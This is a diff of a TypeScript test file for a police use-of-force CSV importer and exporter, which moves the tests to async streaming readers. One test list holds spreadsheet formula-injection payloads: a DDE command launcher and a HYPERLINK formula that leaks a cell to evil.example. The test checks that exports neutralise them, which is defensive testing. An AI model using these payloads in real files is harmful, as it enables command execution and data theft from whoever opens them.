@@ -3,7 +3,7 @@ import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import { MET_COLUMNS, type MetColumn } from '../../../src/domain/met/layout.js';
-import { forEachMetRow, metCellText, metFileRows, metTableRows, openMetCsv, openMetSheet, readMetFile, type MetByteSource, type MetRow, type MetSheetRow } from '../../../src/domain/met/read.js';
+import { metCellText, openMetCsv, openMetSheet, type MetByteSource, type MetRow, type MetSheetRow } from '../../../src/domain/met/read.js';
 import { reportToMetRow, type ImportedReport } from '../../../src/domain/met/rows.js';
 import { writeMetCsv } from '../../../src/domain/met/write.js';
 
@@ -20,14 +20,42 @@ const BOM = [0xef, 0xbb, 0xbf];
 const csv = (rows: string[][], eol = '\r\n') => stringify(rows, { record_delimiter: eol === '\n' ? 'unix' : 'windows', quoted_match: /[\r\n]/ });
 const withValue = (row: string[], column: MetColumn, value: string) => row.map((v, i) => (i === at(column) ? value : v));
 const accepted = (rows: MetRow[]) => rows.filter((r): r is Extract<MetRow, { ok: true }> => r.ok);
-const report = (bytes: Uint8Array, line: number): ImportedReport => {
-  const found = readMetFile(bytes).rows.find((r) => r.line === line);
+
+/** Bytes in memory as the import gives them to openMetCsv: a source of one piece. */
+const whole = (bytes: Uint8Array): MetByteSource => () => (async function* () { yield bytes; })();
+
+/** Reads every row of a sheet through openMetSheet, numbering the rows 1, 2, 3… as a reader that passes empty rows does. */
+async function readSheet(cells: Iterable<readonly unknown[]>) {
+  let number = 0;
+  const file = await openMetSheet((async function* () { for (const row of cells) yield { number: ++number, cells: row }; })());
+  const rows: MetRow[] = [];
+  for await (const row of file.rows) rows.push(row);
+  return { problem: file.problem, rows };
+}
+
+/**
+ * Reads a whole file through openMetCsv, the reader the import uses: every row (`all`), the
+ * accepted ones (`rows`), every problem of the rejected ones (`errors`) and the counts.
+ */
+async function readMetFile(bytes: Uint8Array) {
+  const file = await openMetCsv(whole(bytes));
+  const all: MetRow[] = [];
+  for await (const row of file.rows) all.push(row);
+  const rows = accepted(all).map((r) => ({ line: r.line, report: r.report }));
+  const errors = all.flatMap((r) => (r.ok ? [] : r.errors));
+  return { encoding: file.encoding, problem: file.problem, header: file.header, all, rows, errors, read: all.length, accepted: rows.length, rejected: all.length - rows.length };
+}
+
+const report = async (bytes: Uint8Array, line: number): Promise<ImportedReport> => {
+  const found = (await readMetFile(bytes)).rows.find((r) => r.line === line);
   if (!found) throw new Error(`No report read on line ${line}`);
   return found.report;
 };
 
+const sampleFile = await readMetFile(SAMPLE);
+
 describe('the published sample', () => {
-  const file = readMetFile(SAMPLE);
+  const file = sampleFile;
 
   it('reads every row without rejection', () => {
     expect(file.problem).toBeNull();
@@ -65,18 +93,18 @@ describe('encodings', () => {
     { name: 'UTF-8 without a byte order mark', bytes: utf8(text), encoding: 'utf-8' },
     { name: 'Windows-1252', bytes: new Uint8Array(Buffer.from(text, 'latin1')), encoding: 'windows-1252' },
     { name: 'Windows-1252 with a UTF-8 byte order mark left on', bytes: new Uint8Array([...BOM, ...Buffer.from(text, 'latin1')]), encoding: 'windows-1252' },
-  ])('reads $name', ({ bytes, encoding }) => {
-    const file = readMetFile(bytes);
+  ])('reads $name', async ({ bytes, encoding }) => {
+    const file = await readMetFile(bytes);
     expect(file.problem).toBeNull();
     expect(file.encoding).toBe(encoding);
     expect(file.errors).toEqual([]);
     expect(file.rows.map((r) => [r.line, r.report.content.injuries.subjectInjuryNature])).toEqual([[2, 'Zoë, at the café']]);
   });
 
-  it('reads the Windows-1252 fixture: accents, an en dash (0x96), DD/MM/YYYY dates, HH:MM times, City of Westminster, a quoted comma', () => {
+  it('reads the Windows-1252 fixture: accents, an en dash (0x96), DD/MM/YYYY dates, HH:MM times, City of Westminster, a quoted comma', async () => {
     const bytes = fixture('windows-1252.csv');
     expect(bytes.includes(0x96)).toBe(true);
-    const file = readMetFile(bytes);
+    const file = await readMetFile(bytes);
     expect(file.encoding).toBe('windows-1252');
     expect(file.errors).toEqual([]);
     expect(file.rows.map((r) => r.line)).toEqual([2, 3, 4]);
@@ -89,17 +117,17 @@ describe('encodings', () => {
     expect(third!.ced?.applications[0]?.fired?.probeLocations).toEqual(['F15']);
   });
 
-  it('writes the Windows-1252 fixture back as the sample rows it came from, normalised', () => {
-    const file = readMetFile(fixture('windows-1252.csv'));
+  it('writes the Windows-1252 fixture back as the sample rows it came from, normalised', async () => {
+    const file = await readMetFile(fixture('windows-1252.csv'));
     const [first, second, third] = file.rows.map((r) => reportToMetRow(r.report.content));
     expect(first).toEqual(withValue(withValue(ROWS[0]!, 'Borough', 'Westminster'), 'SubjectNatureOfInjury', 'Zoë slipped on the café floor – graze'));
     expect(second).toEqual(withValue(ROWS[29]!, 'SubjectNatureOfInjury', 'Bruised, minor'));
     expect(third).toEqual(ROWS[28]);
   });
 
-  it('refuses UTF-16, saying how to save the file', () => {
+  it('refuses UTF-16, saying how to save the file', async () => {
     const bytes = new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
-    const file = readMetFile(bytes);
+    const file = await readMetFile(bytes);
     expect(file.problem?.message).toMatch(/saved as UTF-16/);
     expect(file.read).toBe(0);
   });
@@ -125,44 +153,44 @@ describe('CSV forms and line numbers', () => {
       lines: [2, 3],
     },
     { name: 'trailing commas on every row (empty columns with no name)', text: csv([[...HEADER, ''], [...ROWS[0]!, ''], [...ROWS[1]!, '', '']]), lines: [2, 3] },
-  ])('reads $name', ({ text, lines }) => {
-    const file = readMetFile(utf8(text));
+  ])('reads $name', async ({ text, lines }) => {
+    const file = await readMetFile(utf8(text));
     expect(file.problem).toBeNull();
     expect(file.errors).toEqual([]);
     expect(file.rows.map((r) => r.line)).toEqual(lines);
   });
 
-  it('keeps quoted commas, quotes and line breaks in a value', () => {
+  it('keeps quoted commas, quotes and line breaks in a value', async () => {
     const text = csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Graze, "minor",\r\nleft arm')]);
-    expect(report(utf8(text), 2).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
-    expect(report(utf8(text.replace('X1"2', '')), 2).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
+    expect((await report(utf8(text), 2)).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
+    expect((await report(utf8(text.replace('X1"2', '')), 2)).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
   });
 
-  it('keeps a stray quote in an unquoted value as text', () => {
+  it('keeps a stray quote in an unquoted value as text', async () => {
     const text = csv([HEADER]) + csv([ROWS[29]!]).replace('X24614360', 'X246"14360');
-    expect(report(utf8(text), 2).content.ced?.deviceSerial).toBe('X246"14360');
+    expect((await report(utf8(text), 2)).content.ced?.deviceSerial).toBe('X246"14360');
   });
 
-  it('maps columns by name when the file has them in another order and spells the slips correctly', () => {
+  it('maps columns by name when the file has them in another order and spells the slips correctly', async () => {
     const order = MET_COLUMNS.map((_, i) => i).reverse();
     const renamed = HEADER.map((h) => ({ 'CED2 ArCED2': 'CED2 Arced', 'Tactic Effective 20': 'Effective 20', 'Impact Factor: Possesion of a weapon': 'Impact Factor: Possession of a weapon' })[h] ?? h);
     const shuffled = [order.map((i) => renamed[i]!), ...ROWS.map((r) => order.map((i) => r[i]!))];
-    const a = readMetFile(SAMPLE);
-    const b = readMetFile(utf8(csv(shuffled)));
+    const a = await readMetFile(SAMPLE);
+    const b = await readMetFile(utf8(csv(shuffled)));
     expect(b.errors).toEqual([]);
     expect(b.rows).toEqual(a.rows);
   });
 
-  it("names a column as the file spells it in a row's errors", () => {
+  it("names a column as the file spells it in a row's errors", async () => {
     const header = HEADER.map((h) => (h === 'CED2 ArCED2' ? 'CED2 Arced' : h));
-    const file = readMetFile(utf8(csv([header, withValue(ROWS[0]!, 'CED2 ArCED2', 'Maybe')])));
+    const file = await readMetFile(utf8(csv([header, withValue(ROWS[0]!, 'CED2 ArCED2', 'Maybe')])));
     expect(file.errors).toEqual([{ line: 2, column: 'CED2 Arced', message: expect.stringContaining('"Maybe" is not Yes or No') }]);
   });
 });
 
 describe('rows that cannot be read', () => {
-  it('rejects exactly the bad rows of the fixture, with line and column, and reads the rest', () => {
-    const file = readMetFile(fixture('bad-rows.csv'));
+  it('rejects exactly the bad rows of the fixture, with line and column, and reads the rest', async () => {
+    const file = await readMetFile(fixture('bad-rows.csv'));
     expect(file.problem).toBeNull();
     expect(file.rows.map((r) => r.line)).toEqual([2, 5, 8, 11]);
     expect(file.rows[1]!.report.content.injuries.subjectInjuryNature).toBe('Cut to hand,\nsecond line of the note');
@@ -179,11 +207,8 @@ describe('rows that cannot be read', () => {
     expect({ read: file.read, accepted: file.accepted, rejected: file.rejected }).toEqual({ read: 9, accepted: 4, rejected: 5 });
   });
 
-  it('gives the values of a rejected row, for a rejects file', () => {
-    const rejected: MetRow[] = [];
-    forEachMetRow(fixture('bad-rows.csv'), (r) => {
-      if (!r.ok) rejected.push(r);
-    });
+  it('gives the values of a rejected row, for a rejects file', async () => {
+    const rejected = (await readMetFile(fixture('bad-rows.csv'))).all.filter((r) => !r.ok);
     expect(rejected.map((r) => [r.line, !r.ok && r.values.length])).toEqual([
       [3, 271],
       [4, 271],
@@ -193,24 +218,24 @@ describe('rows that cannot be read', () => {
     ]);
   });
 
-  it('reads on after a quote that is never closed in the middle of the file', () => {
+  it('reads on after a quote that is never closed in the middle of the file', async () => {
     // (A later quoted value would close the stray quote, as in any CSV reader: the rows after it here have none.)
     const [first, second, third, fourth] = ROWS.filter((r) => !csv([r]).includes('"'));
     const broken = csv([second!]).replace(/,(Tactical Communications|Ground Restraint|Spit Guard|Baton Drawn|Compliant Handcuffing)/, ',"$1');
     expect(broken).toContain('"');
     const text = csv([HEADER, first!]) + broken + csv([third!, fourth!]);
-    const file = readMetFile(utf8(text));
+    const file = await readMetFile(utf8(text));
     expect(file.errors).toEqual([{ line: 3, column: null, message: expect.stringContaining('never closed') }]);
     expect(file.rows.map((r) => r.line)).toEqual([2, 4, 5]);
   });
 
-  it('rejects a value in a column with no name', () => {
-    const file = readMetFile(utf8(csv([[...HEADER, ''], [...ROWS[0]!, 'stray']])));
+  it('rejects a value in a column with no name', async () => {
+    const file = await readMetFile(utf8(csv([[...HEADER, ''], [...ROWS[0]!, 'stray']])));
     expect(file.errors).toEqual([{ line: 2, column: null, message: 'Column 272 has a value but no name in the header row: name the column, or clear it' }]);
   });
 
-  it('rejects a row with too many values', () => {
-    const file = readMetFile(utf8(csv([HEADER, [...ROWS[0]!, 'extra']])));
+  it('rejects a row with too many values', async () => {
+    const file = await readMetFile(utf8(csv([HEADER, [...ROWS[0]!, 'extra']])));
     expect(file.errors).toEqual([{ line: 2, column: null, message: expect.stringContaining('272 values but the header has 271 columns') }]);
   });
 });
@@ -228,13 +253,12 @@ describe('a file with the wrong layout', () => {
     { name: 'an empty file', bytes: new Uint8Array(), message: /The file is empty/ },
     { name: 'a file of blank lines and a byte order mark', bytes: new Uint8Array([...BOM, 13, 10, 10]), message: /The file is empty/ },
     { name: 'a header row that cannot be read', bytes: utf8('"IncidentDate,IncidentTime\r\n'), message: /The header row cannot be read \(line 1\)/ },
-  ])('fails at once for $name, reading no row', ({ bytes, message, missing }) => {
-    const rows = metFileRows(bytes);
-    expect(rows.problem?.ok).toBe(false);
-    expect(rows.problem?.message).toMatch(message);
-    if (missing) expect(rows.problem?.missing).toEqual(missing);
-    expect([...rows.rows]).toEqual([]);
-    const file = readMetFile(bytes);
+  ])('fails at once for $name, reading no row', async ({ bytes, message, missing }) => {
+    const file = await readMetFile(bytes);
+    expect(file.problem?.ok).toBe(false);
+    expect(file.problem?.message).toMatch(message);
+    if (missing) expect(file.problem?.missing).toEqual(missing);
+    expect(file.all).toEqual([]);
     expect([file.read, file.rows.length, file.errors.length]).toEqual([0, 0, 0]);
   });
 });
@@ -267,21 +291,20 @@ function largeFile(): { bytes: Uint8Array; expected: { line: number; nature: str
 }
 
 describe('large files', () => {
-  it('reads rows across chunk boundaries, with quoted line breaks anywhere, and counts lines right', () => {
+  it('reads rows across chunk boundaries, with quoted line breaks anywhere, and counts lines right', async () => {
     const { bytes, expected } = largeFile();
-    const seen: { line: number; nature: string | null }[] = [];
-    const summary = forEachMetRow(bytes, (r) => {
-      if (r.ok) seen.push({ line: r.line, nature: r.report.content.injuries.subjectInjuryNature });
-    });
-    expect(summary).toEqual({ encoding: 'utf-8', problem: null, read: 5000, accepted: 5000, rejected: 0 });
+    const file = await readMetFile(bytes);
+    const seen = file.rows.map((r) => ({ line: r.line, nature: r.report.content.injuries.subjectInjuryNature }));
+    expect({ encoding: file.encoding, problem: file.problem, read: file.read, accepted: file.accepted, rejected: file.rejected }).toEqual({ encoding: 'utf-8', problem: null, read: 5000, accepted: 5000, rejected: 0 });
     expect(seen).toEqual(expected);
   });
 
-  it('hands rows over one at a time: a caller can stop, or pause between them', () => {
-    const file = metFileRows(SAMPLE);
-    const it = file.rows[Symbol.iterator]();
-    expect((it.next().value as MetRow).line).toBe(2);
-    expect((it.next().value as MetRow).line).toBe(3);
+  it('hands rows over one at a time: a caller can stop, or pause between them', async () => {
+    const file = await openMetCsv(whole(SAMPLE));
+    const it = file.rows[Symbol.asyncIterator]();
+    expect(((await it.next()).value as MetRow).line).toBe(2);
+    expect(((await it.next()).value as MetRow).line).toBe(3);
+    await file.close();
   });
 });
 
@@ -313,10 +336,8 @@ async function readStreamed(open: MetByteSource) {
   return { encoding: file.encoding, problem: file.problem, header: file.header, rows };
 }
 
-const inMemory = (bytes: Uint8Array) => {
-  const file = metFileRows(bytes);
-  return { encoding: file.encoding, problem: file.problem, header: file.header, rows: [...file.rows] };
-};
+/** The file given whole, in one piece. */
+const inMemory = (bytes: Uint8Array) => readStreamed(whole(bytes));
 
 describe('reading a file a piece at a time (openMetCsv)', () => {
   const zoe = csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Zoë, at the café – twice')]);
@@ -331,7 +352,7 @@ describe('reading a file a piece at a time (openMetCsv)', () => {
   it.each(files.flatMap(({ name, bytes }) => [1, 3, 1000, bytes.length].map((size) => ({ name, size, bytes }))))('reads $name in pieces of $size bytes as it reads it in memory', async ({ bytes, size }) => {
     const { open, openings } = inPieces(bytes, size);
     const streamed = await readStreamed(open);
-    const expected = inMemory(bytes);
+    const expected = await inMemory(bytes);
     expect(expected.rows.length).toBeGreaterThan(0);
     expect(streamed).toEqual(expected);
     // Once to decide the encoding, once for the rows; both let go.
@@ -392,14 +413,14 @@ describe('reading a file a piece at a time (openMetCsv)', () => {
     const file = await readStreamed(open);
     expect(file.problem?.message).toMatch(message);
     expect(file.rows).toEqual([]);
-    expect(file.problem).toEqual(inMemory(bytes).problem);
+    expect(file.problem).toEqual((await inMemory(bytes)).problem);
     expect(openings).toHaveLength(opened);
     expect(openings.every((o) => o.closed)).toBe(true);
   });
 });
 
 describe('spreadsheet rows (from an .xlsx reader)', () => {
-  it('reads cells as the CSV text the Met would have written', () => {
+  it('reads cells as the CSV text the Met would have written', async () => {
     const row = ROWS[28]!.map((v, i): unknown => {
       if (i === at('IncidentDate')) return new Date(Date.UTC(2019, 3, 8));
       if (i === at('IncidentTime')) return 0.25; // 06:00 as a fraction of a day
@@ -410,9 +431,9 @@ describe('spreadsheet rows (from an .xlsx reader)', () => {
     const serialDate = ROWS[29]!.map((v, i): unknown => (i === at('IncidentDate') ? 43487 : i === at('IncidentTime') ? new Date(Date.UTC(1899, 11, 30, 8, 55, 0)) : v));
     // A reader leaves out trailing empty cells: the last row stops at its last value.
     const short = serialDate.slice(0, at('Outcome: Fatality') + 1);
-    const file = metTableRows([[], HEADER, row, [null, undefined], short]);
+    const file = await readSheet([[], HEADER, row, [null, undefined], short]);
     expect(file.problem).toBeNull();
-    const rows = [...file.rows];
+    const rows = file.rows;
     expect(rows.filter((r) => !r.ok)).toEqual([]);
     expect(accepted(rows).map((r) => r.line)).toEqual([3, 5]);
     const [fired, other] = accepted(rows).map((r) => r.report);
@@ -423,12 +444,12 @@ describe('spreadsheet rows (from an .xlsx reader)', () => {
     expect(other!.content.incident).toMatchObject({ date: '2019-01-22', time: '08:55' });
   });
 
-  it('refuses a sheet with the wrong header', () => {
-    expect(metTableRows([['Name', 'Date']]).problem?.message).toMatch(/none of the 271 columns/);
+  it('refuses a sheet with the wrong header', async () => {
+    expect((await readSheet([['Name', 'Date']])).problem?.message).toMatch(/none of the 271 columns/);
   });
 
-  it('rejects a value right of the table, naming its column (there are no commas to blame in a sheet)', () => {
-    const rows = [...metTableRows([HEADER, [...ROWS[0]!, null, 'stray'], [...ROWS[1]!, '', null]]).rows];
+  it('rejects a value right of the table, naming its column (there are no commas to blame in a sheet)', async () => {
+    const { rows } = await readSheet([HEADER, [...ROWS[0]!, null, 'stray'], [...ROWS[1]!, '', null]]);
     expect(rows.map((r) => (r.ok ? r.line : r.errors))).toEqual([[{ line: 2, column: null, message: "Column 273 has a value but is right of the header's 271 columns: clear it, or name the column in the header row" }], 3]);
   });
 
@@ -502,10 +523,10 @@ describe('writing a file', () => {
     ['a lone LF in a CRLF file', 'crlf', 'first\nsecond'],
     ['a lone CR in a CRLF file', 'crlf', 'first\rsecond'],
     ['a CRLF in an LF file', 'lf', 'first\r\nsecond'],
-  ] as const)('quotes %s', (_, eol, value) => {
+  ] as const)('quotes %s', async (_, eol, value) => {
     const text = writeMetCsv([withValue(ROWS[0]!, 'SubjectNatureOfInjury', value)], { eol });
     expect(text).toContain(`,"${value}",`);
-    expect(readMetFile(utf8(text)).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(value);
+    expect((await readMetFile(utf8(text))).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(value);
   });
 
   it('ends every line the same way', () => {
@@ -521,8 +542,8 @@ describe('writing a file', () => {
     expect(writeMetCsv(specials.slice(0, 1)) + writeMetCsv(specials.slice(1), { header: false })).toBe(whole);
   });
 
-  it('reads back what it writes', () => {
-    const file = readMetFile(utf8(writeMetCsv(specials)));
+  it('reads back what it writes', async () => {
+    const file = await readMetFile(utf8(writeMetCsv(specials)));
     expect(file.rows.map((r) => reportToMetRow(r.report.content))).toEqual(specials);
     expect(file.rows.map((r) => r.line)).toEqual([2, 4, 5]);
   });
@@ -534,12 +555,12 @@ describe('writing a file', () => {
   // Issue 10: imported `=cmd|' /C calc'!A0` and `=HYPERLINK(…)` came out of `export met-uof` verbatim.
   const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
 
-  it.each(FORMULAS)('writes %j with a quote before it, so no spreadsheet runs it', (formula) => {
+  it.each(FORMULAS)('writes %j with a quote before it, so no spreadsheet runs it', async (formula) => {
     const text = writeMetCsv([withValue(ROWS[0]!, 'SubjectNatureOfInjury', formula)]);
     const [, row] = parse(text, { relax_quotes: true }) as string[][];
     expect(row![at('SubjectNatureOfInjury')]).toBe(`'${formula}`);
     // Read back by Cedar, the cell is what was imported: the quote is only for spreadsheets.
-    expect(readMetFile(utf8(text)).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(formula.trim());
+    expect((await readMetFile(utf8(text))).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(formula.trim());
   });
 
   it('neutralises every column, and leaves rows with no formula as they were', () => {
@@ -555,8 +576,8 @@ describe('limits', () => {
   const TEN_MB = 10 * 1024 * 1024;
   const firedRow = ROWS.find((r) => r[at('CED Fired')] === 'Yes')!;
 
-  it('rejects a 10 MB cartridge number by line and column, quoting 100 characters of it', () => {
-    const file = readMetFile(utf8(csv([HEADER, withValue(firedRow, 'CED Fired Cartridge Number', '7'.repeat(TEN_MB)), ROWS[1]!])));
+  it('rejects a 10 MB cartridge number by line and column, quoting 100 characters of it', async () => {
+    const file = await readMetFile(utf8(csv([HEADER, withValue(firedRow, 'CED Fired Cartridge Number', '7'.repeat(TEN_MB)), ROWS[1]!])));
     expect(file.rows.map((r) => r.line)).toEqual([3]);
     expect(file.errors).toEqual([{ line: 2, column: 'CED Fired Cartridge Number', message: `"${'7'.repeat(100)}…" (10,485,760 characters) is too long: this column holds at most 30 characters` }]);
   });
@@ -566,18 +587,15 @@ describe('limits', () => {
     ['Borough', 100],
     ['CED Device Serial No', 30],
     ['SubjectNatureOfInjury', 10_000],
-  ] as const)('holds %s to %i characters', (column, limit) => {
-    const fits = readMetFile(utf8(csv([HEADER, withValue(firedRow, column, column === 'SingleCrewed' ? 'Yes' : 'x'.repeat(limit))])));
+  ] as const)('holds %s to %i characters', async (column, limit) => {
+    const fits = await readMetFile(utf8(csv([HEADER, withValue(firedRow, column, column === 'SingleCrewed' ? 'Yes' : 'x'.repeat(limit))])));
     expect(fits.errors).toEqual([]);
-    const over = readMetFile(utf8(csv([HEADER, withValue(firedRow, column, 'x'.repeat(limit + 1))])));
+    const over = await readMetFile(utf8(csv([HEADER, withValue(firedRow, column, 'x'.repeat(limit + 1))])));
     expect(over.errors).toEqual([{ line: 2, column, message: expect.stringContaining(`is too long: this column holds at most ${limit} characters`) }]);
   });
 
-  it('never echoes a huge value whole, in a message or in the values kept for a rejects file', () => {
-    const rejected: MetRow[] = [];
-    forEachMetRow(utf8(csv([HEADER, withValue(firedRow, 'SingleCrewed', 'Maybe'.repeat(TEN_MB / 5))])), (r) => {
-      if (!r.ok) rejected.push(r);
-    });
+  it('never echoes a huge value whole, in a message or in the values kept for a rejects file', async () => {
+    const rejected = (await readMetFile(utf8(csv([HEADER, withValue(firedRow, 'SingleCrewed', 'Maybe'.repeat(TEN_MB / 5))])))).all.filter((r) => !r.ok);
     expect(rejected).toHaveLength(1);
     const r = rejected[0]!;
     if (r.ok) throw new Error('expected a rejected row');
@@ -585,12 +603,12 @@ describe('limits', () => {
     expect(Math.max(...r.values.map((v) => v.length))).toBeLessThanOrEqual(1000);
   });
 
-  it('refuses a header with a huge column in a short message', () => {
-    const huge = readMetFile(utf8(csv([[...HEADER, 'y'.repeat(TEN_MB)], [...ROWS[0]!, '']])));
+  it('refuses a header with a huge column in a short message', async () => {
+    const huge = await readMetFile(utf8(csv([[...HEADER, 'y'.repeat(TEN_MB)], [...ROWS[0]!, '']])));
     expect(huge.problem).not.toBeNull();
     expect(huge.problem!.message.length).toBeLessThan(400);
     // A long unknown column name (under the length of a record) is quoted cut short.
-    const long = readMetFile(utf8(csv([[...HEADER, 'y'.repeat(5000)], [...ROWS[0]!, '']])));
+    const long = await readMetFile(utf8(csv([[...HEADER, 'y'.repeat(5000)], [...ROWS[0]!, '']])));
     expect(long.problem!.message).toContain(`"${'y'.repeat(100)}…" (5,000 characters)`);
     expect(long.problem!.message.length).toBeLessThan(400);
   });
